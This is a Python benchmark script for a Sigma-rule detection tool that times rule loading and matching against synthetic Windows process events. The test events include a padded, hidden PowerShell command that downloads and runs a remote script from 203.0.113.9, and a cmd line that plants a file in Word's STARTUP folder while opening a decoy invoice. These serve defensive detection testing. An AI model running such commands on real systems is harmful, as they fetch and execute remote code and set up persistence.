"""Benchmark Sigma loading and evaluation: prints figures, asserts nothing.

Run: /work/venv/bin/python benchmarks/bench_sigma.py [RULE_DIR ...]
Without arguments it measures the team rules and SigmaHQ's process_creation rules from the public
corpus (../shared/corpus), when present, loaded alone and together. Loads run in new processes
against a throwaway cache folder: "cold" with an empty disk cache (pySigma parses every rule),
"warm" with the disk cache filled by the previous run (no pySigma). CPU times are the child's
user + system time, min and median over several runs, so other load on the machine matters less.
"""

from __future__ import annotations

import json
import os
import shutil
import statistics
import subprocess
import sys
import tempfile
import time
from collections import Counter
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from restytriage.sigma import RuleSet, default_rule_dirs, load_rules

SIGMAHQ = Path(__file__).resolve().parents[2] / "shared/corpus/sigma/rules/windows/process_creation"
RESTYTRIAGE = Path(sys.executable).with_name("restytriage")

EVENTS: dict[str, dict[str, str]] = {
    "restylink": {
        "Image": "C:\\Windows\\System32\\cmd.exe",
        "CommandLine": 'C:\\Windows\\System32\\cmd.exe /c copy /y "%TEMP%\\x.tmp" '
        '"%APPDATA%\\Microsoft\\Word\\STARTUP\\w.dot" & start "" "invoice.pdf"',
        "ParentImage": "C:\\Windows\\explorer.exe",
        "CurrentDirectory": "C:\\Users\\Public\\",
        "OriginalFileName": "Cmd.Exe",
        "ParentCommandLine": "C:\\Windows\\explorer.exe",
        "User": "DESKTOP\\bob",
        "IntegrityLevel": "Medium",
    },
    "benign_word": {
        "Image": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        "CommandLine": '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" '
        '"C:\\Users\\a\\Documents\\report.docx"',
        "ParentImage": "C:\\Windows\\explorer.exe",
        "CurrentDirectory": "C:\\Users\\a\\Documents\\",
        "OriginalFileName": "WinWord.exe",
        "ParentCommandLine": "C:\\Windows\\explorer.exe",
        "User": "DESKTOP\\a",
        "IntegrityLevel": "Medium",
    },
    "powershell_download_padded": {
        "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "CommandLine": "powershell.exe" + " " * 300 + '-nop -w hidden -c "IEX (New-Object Net.WebClient)'
        ".DownloadString('http://203.0.113.9/a.ps1')\"",
        "ParentImage": "C:\\Windows\\explorer.exe",
        "CurrentDirectory": "C:\\Users\\Public\\",
        "OriginalFileName": "PowerShell.EXE",
        "ParentCommandLine": "C:\\Windows\\explorer.exe",
        "User": "DESKTOP\\bob",
        "IntegrityLevel": "Medium",
    },
    "long_64k_args": {
        "Image": "C:\\Windows\\System32\\cmd.exe",
        "CommandLine": "cmd.exe /c " + "A?*-/ " * 10_900,  # an LNK's argument maximum is ~64 KiB
        "ParentImage": "C:\\Windows\\explorer.exe",
        "OriginalFileName": "Cmd.Exe",
    },
}

# One load in a new process; prints whether it came from the disk cache, its own CPU time and
# whether pySigma was imported.
LOAD = """
import json, sys, time
from pathlib import Path
from restytriage.sigma import load_rules
start = time.process_time()
rs = load_rules([Path(a) for a in sys.argv[1:]])
print(json.dumps({"from_cache": rs.from_cache, "load_cpu": time.process_time() - start,
                  "rules": len(rs.rules), "pysigma": "sigma" in sys.modules}))
"""


def _child_cpu(cmd: list[str], env: dict[str, str]) -> tuple[float, str]:
    """(user + system CPU seconds, stdout) of one child process."""
    with tempfile.TemporaryFile() as out:
        child = subprocess.Popen(cmd, stdout=out, stderr=subprocess.DEVNULL, env=env)
        _, _, usage = os.wait4(child.pid, 0)
        child.returncode = 0  # reaped by wait4
        out.seek(0)
        return usage.ru_utime + usage.ru_stime, out.read().decode()


def _summary(seconds: list[float]) -> str:
    return f"min {min(seconds) * 1000:7.1f} ms  median {statistics.median(seconds) * 1000:7.1f} ms"


def _process_cpu(label: str, cmd: list[str], env: dict[str, str], runs: int) -> None:
    times = [_child_cpu(cmd, env)[0] for _ in range(runs)]
    print(f"  {label:44s} {_summary(times)}  ({runs} runs)")


def _load_in_new_process(label: str, dirs: list[Path], cache: Path, runs: int) -> None:
    """Cold (disk cache emptied before each run) and warm (filled) loads of one rule set."""
    env = {**os.environ, "RESTYTRIAGE_CACHE_DIR": str(cache)}
    cmd = [sys.executable, "-c", LOAD, *map(str, dirs)]
    for state in ("cold", "warm"):
        process, load, rules, pysigma = [], [], 0, 0
        for _ in range(runs):
            if state == "cold":
                shutil.rmtree(cache, ignore_errors=True)
            cpu, out = _child_cpu(cmd, env)
            result = json.loads(out)
            assert result["from_cache"] is (state == "warm"), result
            process.append(cpu)
            load.append(result["load_cpu"])
            rules, pysigma = result["rules"], pysigma + result["pysigma"]
        print(f"  {label:14s} {state}: load_rules {_summary(load)};  whole process {_summary(process)}")
        print(f"  {'':14s}       {rules} rules, pySigma imported in {pysigma} of {runs} runs")


def _throughput(rs: RuleSet, event: dict[str, str], seconds: float = 1.0) -> tuple[float, int]:
    n, start = 0, time.perf_counter()
    while (elapsed := time.perf_counter() - start) < seconds:
        hits = len(rs.match(event))
        n += 1
    return n / elapsed, hits


def main(argv: list[str]) -> None:
    if argv:
        rule_sets = {"given": [Path(a) for a in argv]}
    else:
        rule_sets = {"team": default_rule_dirs()}
        if SIGMAHQ.is_dir():
            rule_sets |= {"SigmaHQ": [SIGMAHQ], "team+SigmaHQ": [*default_rule_dirs(), SIGMAHQ]}
    for name, dirs in rule_sets.items():
        print(f"{name}:", *dirs, sep="\n  ")
    with tempfile.TemporaryDirectory(prefix="bench-sigma-") as work:
        cache = Path(work) / "cache"
        env = {**os.environ, "RESTYTRIAGE_CACHE_DIR": str(cache)}
        print("\nimport cost, new process (CPU):")
        _process_cpu("python -c pass", [sys.executable, "-c", "pass"], env, 15)
        for statement in ("import restytriage.sigma", "import restytriage.model"):
            _process_cpu(f"python -c '{statement}'", [sys.executable, "-c", statement], env, 15)
        # The engine imports restytriage.model (msgspec) anyway: what sigma adds on top of it.
        both = "import restytriage.model, restytriage.sigma"
        _process_cpu(f"python -c '{both}'", [sys.executable, "-c", both], env, 15)

        print("\nload_rules in a new process (CPU):")
        for name, dirs in rule_sets.items():
            _load_in_new_process(name, dirs, cache, 3 if SIGMAHQ in dirs or argv else 10)

        if RESTYTRIAGE.is_file():
            from restytriage.samples.lnk_samples import restylink_shortcut

            sample = Path(work) / "seminar_programme.pdf.lnk"
            sample.write_bytes(restylink_shortcut())
            print("\nrestytriage triage --json - <RestyLink LNK>, new process (CPU):")
            triage = [str(RESTYTRIAGE), "triage", "--json", "-", str(sample)]
            shutil.rmtree(cache, ignore_errors=True)
            _child_cpu(triage, env)  # fill the YARA and Sigma disk caches
            _process_cpu("warm caches (team rules)", triage, env, 10)
            if SIGMAHQ.is_dir():
                with_corpus = [*triage[:-1], "--sigma", str(SIGMAHQ), str(sample)]
                _child_cpu(with_corpus, env)
                _process_cpu("warm caches, --sigma SigmaHQ", with_corpus, env, 5)

        print("\nevaluation (in process):")
        dirs = next(reversed(rule_sets.values()))
        os.environ["RESTYTRIAGE_CACHE_DIR"] = str(cache)
        rs = load_rules(dirs)
        print(f"  rules loaded: {len(rs.rules)}  skipped: {len(rs.skipped)}")
        for reason, count in Counter(r.split(":")[0] for _, r in rs.skipped).most_common(5):
            print(f"    skipped {count:4d}x  {reason}")
        for name, event in EVENTS.items():
            rate, hits = _throughput(rs, event)
            print(f"  {name:28s} {rate:8.0f} events/s  {1000 / rate:6.2f} ms/event  {hits} matches")


if __name__ == "__main__":
    main(sys.argv[1:])
